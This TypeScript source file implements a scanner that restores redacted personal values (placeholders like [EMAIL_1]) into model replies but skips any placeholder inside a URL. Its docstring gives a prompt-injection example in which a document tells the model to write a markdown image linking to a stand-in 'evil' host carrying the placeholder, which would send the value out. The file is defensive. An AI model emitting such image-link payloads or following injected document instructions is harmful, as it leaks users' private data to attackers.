import type { Hit, Scanner } from '../detect/detector.ts';
import type { Piece } from './piece.ts';
import type { Placeholders } from './placeholders.ts';

/** `[`, a label, a number, `]`: no placeholder is longer. */
const MAX_PLACEHOLDER = 48;

const OPEN = 0x5b;
const CLOSE = 0x5d;
const LINE_FEED = 0x0a;
const NONE = -1;

/** Where a reader stands: what is kept of the text, and undone by `rewind`. */
interface State {
  /** UTF-16 units read. */
  length: number;
  /** Where a candidate began, or -1, and what of it was read. */
  start: number;
  candidate: string;
  /** The quote or bracket that what is being read stands in, or 0. */
  opener: number;
  /** In a URL, from its `//` on. */
  inUrl: boolean;
  previous: number;
}

/**
 * Puts the values of this exchange back in place of their placeholders.
 *
 * The reply is hostile text: a document may have told the model to write `![](https://evil/?q=[EMAIL_1])`, which would send the value away as
 * soon as the reply is shown. So nothing is put back inside a URL that names a host.
 */
export class RestoreScanner implements Scanner {
  readonly #placeholders: Placeholders;
  readonly #mayBeJson: boolean;
  /** Whether the text is JSON source (the arguments of a tool call): null until its first unit is known. */
  #json: boolean | null;
  #state: State = newState();
  #mark: { readonly state: State; readonly json: boolean | null };

  /** @param mayBeJson true where the text, if it looks like JSON, is JSON source: values are then escaped for a string of it */
  constructor(placeholders: Placeholders, mayBeJson: boolean) {
    this.#placeholders = placeholders;
    this.#mayBeJson = mayBeJson;
    this.#json = mayBeJson ? null : false;
    this.#mark = { state: { ...this.#state }, json: this.#json };
  }

  get pending(): number {
    return this.#state.start === NONE ? this.#state.length : this.#state.start;
  }

  push({ text, units, length }: Piece, hits: Hit[]): void {
    if (this.#json === null) {
      const first = text.trimStart().charAt(0);
      if (first !== '') this.#json = first === '{' || first === '[' || first === '"';
    }
    for (let at = 0; at < length; at++) this.#read(units[at] ?? 0, hits);
  }

  end(): void {
    this.#state.start = NONE;
  }

  reset(): void {
    this.#state = newState();
    this.#json = this.#mayBeJson ? null : false;
  }

  mark(): void {
    this.#mark = { state: { ...this.#state }, json: this.#json };
  }

  rewind(): void {
    this.#state = { ...this.#mark.state };
    this.#json = this.#mark.json;
  }

  #read(unit: number, hits: Hit[]): void {
    const state = this.#state;
    state.length++;
    this.#followUrl(unit);
    if (unit === OPEN) {
      state.start = state.length - 1;
      state.candidate = '[';
      return;
    }
    if (state.start === NONE) return;
    if (!isInside(unit) && unit !== CLOSE) {
      state.start = NONE;
      return;
    }
    state.candidate += String.fromCharCode(unit);
    if (unit === CLOSE) this.#close(hits);
    else if (state.candidate.length >= MAX_PLACEHOLDER) state.start = NONE;
  }

  #close(hits: Hit[]): void {
    const { start, candidate, length, inUrl } = this.#state;
    this.#state.start = NONE;
    const original = this.#placeholders.original(candidate);
    if (original === undefined || inUrl) return;
    const replacement = this.#json === true ? JSON.stringify(original).slice(1, -1) : original;
    hits.push({
      start,
      end: length,
      at: length,
      detector: 'pii',
      category: 'restored',
      severity: 'info',
      action: 'restore',
      replacement,
    });
  }

  /** A URL begins at two slashes of either kind, or `www.`; it ends with its quote or bracket, or where it has none with the word. */
  #followUrl(unit: number): void {
    const state = this.#state;
    const { previous } = state;
    state.previous = isSlash(unit) || unit === 0x77 ? unit : 0;
    if (state.inUrl) {
      const ends = state.opener === 0 ? isSpace(unit) || isQuote(unit) : unit === closerOf(state.opener) || unit === LINE_FEED;
      if (ends) {
        state.inUrl = false;
        state.opener = 0;
      }
      return;
    }
    if ((isSlash(unit) && isSlash(previous)) || (unit === 0x77 && previous === 0x77)) state.inUrl = true;
    else if (isQuote(unit)) state.opener = unit;
    else if (isSpace(unit)) state.opener = 0;
  }
}

function newState(): State {
  return { length: 0, start: NONE, candidate: '', opener: 0, inUrl: false, previous: 0 };
}

/** Upper case letters, digits and `_`. */
function isInside(unit: number): boolean {
  return (unit >= 0x41 && unit <= 0x5a) || (unit >= 0x30 && unit <= 0x39) || unit === 0x5f;
}

function isSlash(unit: number): boolean {
  return unit === 0x2f || unit === 0x5c;
}

function isSpace(unit: number): boolean {
  return unit === 0x20 || (unit >= 0x09 && unit <= 0x0d);
}

/** Quotes and the opening angle bracket, in which a URL may hold spaces. */
function isQuote(unit: number): boolean {
  return unit === 0x22 || unit === 0x27 || unit === 0x3c || unit === 0x60;
}

function closerOf(opener: number): number {
  return opener === 0x3c ? 0x3e : opener;
}
